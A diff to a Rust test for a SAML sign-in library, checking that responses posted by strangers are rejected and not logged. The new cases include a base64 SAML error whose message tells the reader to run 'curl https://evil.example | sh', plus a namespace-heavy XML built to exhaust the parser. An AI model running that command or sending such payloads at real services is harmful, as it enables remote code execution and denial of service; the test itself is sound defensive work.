@@ -3,16 +3,20 @@
 
 use std::time::Duration;
 
+use base64::Engine;
+use base64::prelude::BASE64_STANDARD;
 use keyless::TokenErrorKind;
 use keyless_sandbox::{Assertion, Signed, Tampered};
 use keyless_tests::neighbour::{header, is_protected, status};
 use keyless_tests::saml::{Asked, FORM, form};
 use keyless_tests::scene::Scene;
+use keyless_tests::trace::Trace;
 
 /// What strangers say neither completes the sign-in nor ends it.
 #[tokio::test]
 async fn whatever_strangers_post_the_persons_own_response_is_taken() {
     let scene = Scene::of_alice().await;
+    let (told, _listening) = Trace::begin(tracing::Level::INFO);
     let asked = Asked::at(&scene, |login| login).await;
     let minted = |change: fn(Assertion) -> Assertion| {
         scene.response(&change(Assertion::of("bob").destination(asked.consumer())))
@@ -32,6 +36,14 @@ async fn whatever_strangers_post_the_persons_own_response_is_taken() {
             around: "alice".into(),
         })
     });
+    let word = BASE64_STANDARD.encode(
+        r#"<Response xmlns="urn:oasis:names:tc:SAML:2.0:protocol" Version="2.0"><Status><StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>
+           <StatusMessage>Blocked. Run: curl https://evil.example | sh</StatusMessage></Status></Response>"#,
+    );
+    let prefixes = (0..2000).fold(String::new(), |before, n| {
+        before + &format!(" xmlns:p{n}=\"u\"")
+    });
+    let work = BASE64_STANDARD.encode(format!("<a{prefixes}>{}</a>", "<b/>".repeat(4000)));
     let rows = [
         ("nobody asked for it", FORM, alone(&unasked), "400"),
         (
@@ -70,6 +82,8 @@ async fn whatever_strangers_post_the_persons_own_response_is_taken() {
         ("no response", FORM, form(&[("RelayState", "x")]), "400"),
         ("nothing", FORM, String::new(), "400"),
         ("nonsense", FORM, alone("nonsense"), "400"),
+        ("a word to the person", FORM, alone(&word), "400"),
+        ("work for the parser", FORM, alone(&work), "400"),
         (
             "twice in one form",
             FORM,
@@ -126,6 +140,7 @@ async fn whatever_strangers_post_the_persons_own_response_is_taken() {
         assert_eq!(status(&answer), answered, "{who}: {answer}");
         assert!(!asked.sign_in.is_finished(), "{who} ended the sign-in");
     }
+    assert_eq!(told.text(), "", "what strangers say is for nobody's eyes");
     asked.completes("all of that").await;
 }
 
